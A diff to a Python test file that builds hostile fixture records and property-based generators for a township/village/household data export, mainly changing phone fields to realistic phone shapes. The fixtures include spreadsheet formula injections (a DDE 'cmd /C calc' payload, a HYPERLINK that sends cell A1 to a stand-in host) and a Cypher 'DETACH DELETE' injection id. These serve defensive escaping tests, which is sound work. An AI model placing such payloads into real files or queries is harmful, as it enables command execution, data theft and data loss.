@@ -39,7 +39,8 @@ AS_OF = "2026-06-30"
 DDE = "=cmd|' /C calc'!A0"
 
 # one record of every kind, with an id or a text starting with every trigger in every column
-# that carries free text: ids (and so the references), names, phones, addresses, requests
+# that carries free text: ids (and so the references), names, addresses, requests; a phone
+# has a phone number's shape, so of the triggers only '+' (+86) can start one
 HOSTILE: dict[str, list[dict[str, Any]]] = {
     "townships": [{"id": "=T1", "name": DDE}],
     "villages": [{"id": "+V1", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "township_id": "=T1",
@@ -53,13 +54,14 @@ HOSTILE: dict[str, list[dict[str, Any]]] = {
          "township_id": None, "village_id": None, "phone": "+86 139 0000 0001"},
         {"id": "''D1", "name": "''", "roles": ["delegate"], "status": "active",
          "inactive_since": None, "hardship": True, "organization_id": None,
-         "township_id": None, "village_id": "+V1", "phone": "'+8613900000002"},
+         "township_id": None, "village_id": "+V1", "phone": "+86-139-0000-0002"},
         {"id": "'M1", "name": '\r=HYPERLINK("http://example.invalid/?"&A1,"x")', "roles": [],
          "status": "active", "inactive_since": None, "hardship": False, "organization_id": None,
-         "township_id": None, "village_id": "+V1", "phone": "-1"},
+         "township_id": None, "village_id": "+V1", "phone": "+8613900000003"},
         {"id": "P'}) DETACH DELETE (n) //", "name": "v\x0btab\x01 _x000D_ x005F_", "roles": [],
          "status": "active", "inactive_since": None, "hardship": False,
-         "organization_id": None, "township_id": None, "village_id": "+V1", "phone": "\n@1"},
+         "organization_id": None, "township_id": None, "village_id": "+V1",
+         "phone": "0571-8888123转12"},
     ],
     "households": [
         {"id": "+H1", "head_name": "=1+1", "village_id": "+V1", "categories": ["poor"],
@@ -292,6 +294,9 @@ texts = st.builds(
     st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\",;`{}$ _x0D5F王a1")), max_size=8),
 ).filter(lambda s: s.strip() != "")
 opt_texts = st.one_of(st.none(), texts)
+opt_phones = st.one_of(st.none(), st.sampled_from(
+    ["+86 139 0000 0001", "+8613900000002", "+86-139-0000-0003", "13900000004",
+     "010-12345678", "0571-8888123转12"]))
 id_prefixes = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'@", "'''", "`", "{",
                                "$", "\"", "_x0041_"])
 
@@ -306,11 +311,11 @@ def hostile_bundles(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
     people = [{"id": draw(id_prefixes) + f"P{i}", "name": draw(texts),
                "roles": ["delegate"] if i == 0 else [], "status": "active", "inactive_since": None,
                "hardship": False, "organization_id": None, "township_id": None,
-               "village_id": draw(st.sampled_from(vids)), "phone": draw(opt_texts)}
+               "village_id": draw(st.sampled_from(vids)), "phone": draw(opt_phones)}
               for i in range(draw(st.integers(2, 4)))]
     households = [{"id": draw(id_prefixes) + f"H{i}", "head_name": draw(texts),
                    "village_id": draw(st.sampled_from(vids)), "categories": [], "size": None,
-                   "status": "active", "inactive_since": None, "phone": draw(opt_texts),
+                   "status": "active", "inactive_since": None, "phone": draw(opt_phones),
                    "address": draw(opt_texts)} for i in range(draw(st.integers(1, 4)))]
     liaisons = [{"kind": "delegate-member", "from_id": people[0]["id"], "to_id": p["id"],
                  "since": None, "until": None} for p in people[1:]]
